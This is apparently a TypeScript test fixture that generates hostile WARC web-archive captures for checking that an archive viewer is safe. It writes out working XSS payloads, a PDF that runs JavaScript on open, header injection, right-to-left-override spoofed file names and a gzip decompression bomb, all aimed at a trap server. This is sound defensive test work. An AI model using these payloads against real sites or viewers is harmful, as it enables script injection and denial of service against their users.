// Generates captures that try to run scripts, send requests, leave the page or break its layout when displayed. Each
// capture tries to contact the trap, a server that nothing else contacts.
import { randomUUID } from 'node:crypto';
import { gzipSync } from 'node:zlib';

export interface HostileCapture {
  readonly name: string;
  readonly url: string;
  readonly head: readonly string[];
  readonly body: Buffer;
  /** Value of WARC-Date. */
  readonly date?: string;
  /** Status code and reason phrase, such as `200 OK`. */
  readonly status?: string;
}

/** Generates the captures. `trap`: URL of the trap server, which ends with `/`. */
export function makeHostileCaptures(trap: string): HostileCapture[] {
  const run = `try{top.__ran=1}catch{};try{parent.__ran=1}catch{};window.__ran=1;new Image().src='${trap}ran';alert(1)`;
  const page = [
    `<!doctype html><html><head><base href="${trap}base/"><meta http-equiv="refresh" content="0;url=${trap}refresh">`,
    `<link rel="stylesheet" href="${trap}style.css"><link rel="preload" as="image" href="${trap}preload">`,
    `<link rel="dns-prefetch" href="${trap}"><style>@import "${trap}import.css";body{background:url(${trap}background)}</style>`,
    `<script>${run}</script><script src="${trap}script.js"></script></head>`,
    `<body onload="${run}" background="${trap}body"><h1 style="background:url(${trap}inline)">A captured page</h1>`,
    `<img src="x" onerror="${run}"><img src="${trap}img" srcset="${trap}srcset 2x"><picture><source srcset="${trap}source"></picture>`,
    `<svg onload="${run}"><script>${run}</script><image href="${trap}svg-image"/></svg>`,
    `<iframe src="${trap}iframe"></iframe><iframe srcdoc="<script>${run}</script>"></iframe><object data="${trap}object"></object>`,
    `<embed src="${trap}embed"><video src="${trap}video" poster="${trap}poster" autoplay></video><audio src="${trap}audio"></audio>`,
    `<form action="${trap}form" id="f"><input autofocus onfocus="${run}"></form><a href="javascript:${run}" id="js">js</a>`,
    `<a href="${trap}link" id="away" ping="${trap}ping">away</a><math><mi xlink:href="javascript:${run}">m</mi></math>`,
    `<p>The end of the page</p><noscript><p title="</noscript><img src=x onerror=${run}>"></noscript></body></html>`,
  ].join('');
  const drawing = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90" onload="${run.replaceAll('&', '&amp;')}"><script>${run}</script><image href="${trap}image" width="9" height="9"/><foreignObject width="90" height="90"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${trap}foreign"/></foreignObject><rect width="90" height="90" fill="teal"/></svg>`;
  const pdf = `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1);this.submitForm('${trap}pdf'))>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O<</S/URI/URI(${trap}uri)>>>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`;
  const markup = `"><img src=x onerror=${run}><script>${run}</script>`;
  const of = (name: string, type: string, body: string | Buffer, url = `http://hostile.example/${name}`) => ({
    ...{ name, url, head: [`Content-Type: ${type}`], body: Buffer.from(body) },
  });
  return [
    of('page', 'text/html; charset=utf-8', page),
    of('page-without-type', `x/${markup.slice(0, 40)}`, page),
    of('page-as-picture', 'image/png', page),
    of('drawing', 'image/svg+xml', drawing),
    of('drawing-as-picture', 'image/png', drawing),
    of('document', 'application/pdf', pdf),
    of('script', 'application/javascript', run),
    of('text', 'text/plain', `${markup}\n\u202etxt.exe`),
    of('markup-in-name', 'text/plain', 'named', `http://hostile.example/${markup.replaceAll(' ', '%20')}`),
    of(
      'long-name',
      'text/plain',
      'named',
      `http://hostile.example/${'long/'.repeat(1_600)}?${'x'.repeat(200)}`,
    ),
    of('turned-name', 'text/plain', 'named', 'http://hostile.example/\u202egpj.exe'),
    of('other-scheme', 'text/html', page, `javascript:${run}`),
    { ...of('lying-coding', 'text/html', page), head: ['Content-Type: text/html', 'Content-Encoding: gzip'] },
    {
      ...of('bomb', 'text/html', gzipSync(Buffer.alloc(50_000_000, 'a'))),
      head: ['Content-Type: text/html', 'Content-Encoding: gzip'],
    },
    {
      ...of('heads', 'text/plain', 'x'),
      head: [
        `X-Head: ${markup}`,
        `Refresh: 0;url=${trap}refresh`,
        `Link: <${trap}l>; rel=preload; as=image`,
        'Content-Type: text/plain',
      ],
    },
    of(
      'vast-picture',
      'image/png',
      Buffer.from('89504e470d0a1a0a0000000d494844520001ffff0001ffff0802000000', 'hex'),
    ),
  ];
}

export function makeHostileArchive(captures: readonly HostileCapture[]): Buffer {
  return Buffer.concat(
    captures.map(({ url, head, body, date = '2020-02-20T20:20:20Z', status = '200 OK' }) => {
      const block = Buffer.concat([Buffer.from(`HTTP/1.1 ${status}\r\n${head.join('\r\n')}\r\n\r\n`), body]);
      const lines = [
        'WARC/1.1',
        'WARC-Type: response',
        `WARC-Record-ID: <urn:uuid:${randomUUID()}>`,
        `WARC-Date: ${date}`,
        `WARC-Target-URI: ${url}`,
        'Content-Type: application/http; msgtype=response',
        `Content-Length: ${block.length}`,
      ];
      return gzipSync(
        Buffer.concat([Buffer.from(`${lines.join('\r\n')}\r\n\r\n`), block, Buffer.from('\r\n\r\n')]),
      );
    }),
  );
}
